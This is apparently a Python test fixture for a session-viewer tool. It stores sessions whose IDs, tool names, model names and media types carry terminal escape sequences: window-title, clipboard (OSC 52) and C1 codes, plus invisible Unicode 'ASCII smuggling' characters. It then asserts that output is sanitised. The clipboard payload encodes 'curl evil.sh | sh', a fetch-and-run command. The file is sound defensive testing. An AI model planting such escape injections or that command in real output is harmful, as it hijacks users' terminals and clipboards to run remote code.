"""A store whose every displayed field is hostile (issue 9, items 3 and 6): the session id, the
tool and model names, an image's media type and an unknown block type carry window-title
(OSC 0), clipboard (OSC 52) and 8-bit C1 OSC sequences, and the title cleans to nothing."""

from __future__ import annotations

import os
import re
from pathlib import Path

from sessionscope import store

TITLE_MARK = "PWNED-TITLE"
CLIP_B64 = "Y3VybCBldmlsLnNoIHwgc2gK"  # base64 of "curl evil.sh | sh\n"
OSC_TITLE = f"\x1b]0;{TITLE_MARK}\x07"
OSC_CLIP = f"\x1b]52;c;{CLIP_B64}\x07"
C1_OSC = f"\x9d2;{TITLE_MARK}\x9c"
EVIL = OSC_TITLE + OSC_CLIP + C1_OSC
HOSTILE_ID = f"sess{EVIL}-0001"
# every bidi control (U+061C ARABIC LETTER MARK among them), the deprecated format characters
# U+206A-206F, U+180E MONGOLIAN VOWEL SEPARATOR and the tag block U+E0000-E007F ("ASCII
# smuggling": invisible twins of ASCII) which the sanitiser once let through, and the fillers that
# draw as nothing (Hangul U+115F, U+1160, U+3164, U+FFA0; Khmer U+17B4/5)
INVISIBLE = (
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    "\u206a\u206b\u206c\u206d\u206e\u206f\u180e\u115f\u1160\u3164\uffa0\u17b4\u17b5"
    + "".join(map(chr, range(0xE0000, 0xE0080)))
)
# what must never reach a terminal: C0 but newline and tab, DEL, C1, bidi, zero-width, BOM,
# invisible format and tag characters, surrogates
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"
    "\u115f\u1160\u3164\uffa0\u17b4\u17b5\U000e0000-\U000e007f\ud800-\udfff]"
)
# a window title (OSC 0/1/2) or clipboard (OSC 52) sequence, 7-bit or 8-bit (UTF-8 of U+009D)
OSC_BYTES = re.compile(rb"(?:\x1b\]|\xc2\x9d)(?:0|1|2|52);")


def hostile_fields_store(path: Path) -> str:
    """A store with one session whose id, tool name, model, media type and block type are
    hostile and whose title is nothing but escape sequences; its id."""
    with store.open(path) as db:
        sid = db.start_session(id=HOSTILE_ID, title=EVIL, source="api", model="model" + EVIL)
        db.append(sid, "user", "show me the evil fields", created_at="2026-10-10T10:00:00Z")
        db.append(
            sid,
            "assistant",
            [
                {"type": "text", "text": "evil fields follow"},
                {"type": "tool_use", "id": "t1", "name": "Bash" + EVIL, "input": {"cmd": "ls"}},
                {
                    "type": "image",
                    "source": {"type": "base64", "media_type": "image/png" + EVIL, "data": "iVBO"},
                },
                {"type": "widget" + EVIL, "payload": 1},
            ],
            created_at="2026-10-10T10:00:05Z",
            model="gpt" + EVIL,
        )
        db.append(
            sid,
            "tool",
            [{"type": "tool_result", "tool_use_id": "t1", "content": "evil output"}],
            created_at="2026-10-10T10:00:06Z",
        )
    return sid


def assert_inert_text(text: str, where: str) -> None:
    """`text` holds nothing a terminal would act on, and none of the hostile payloads."""
    found = UNSAFE.search(text)
    assert found is None, (where, found.group() if found else None, text[:200])
    assert TITLE_MARK not in text and CLIP_B64 not in text, (where, text[:200])


def assert_inert_bytes(output: bytes, where: str, *, escaped_ok: bool = False) -> None:
    """Terminal output with no title or clipboard sequence and none of the hostile payloads
    (`escaped_ok`: JSON, which keeps the payloads as text behind `\\u001b` escapes)."""
    assert not OSC_BYTES.search(output), where
    assert b"\xc2\x9d" not in output and b"\xc2\x9b" not in output, where
    if not escaped_ok:
        assert TITLE_MARK.encode() not in output and CLIP_B64.encode() not in output, where


def special_store_path(tmp_path: Path, what: str) -> Path:
    """A store path that is no regular file: a "fifo", a "link to fifo" or the "device"
    /dev/null (what a store must refuse rather than wait on)."""
    path = tmp_path / "s.db"
    if what == "fifo":
        os.mkfifo(path)
    elif what == "link to fifo":
        os.mkfifo(tmp_path / "fifo")
        path.symlink_to(tmp_path / "fifo")
    elif what == "device":
        path = Path("/dev/null")
    else:
        raise ValueError(what)
    return path
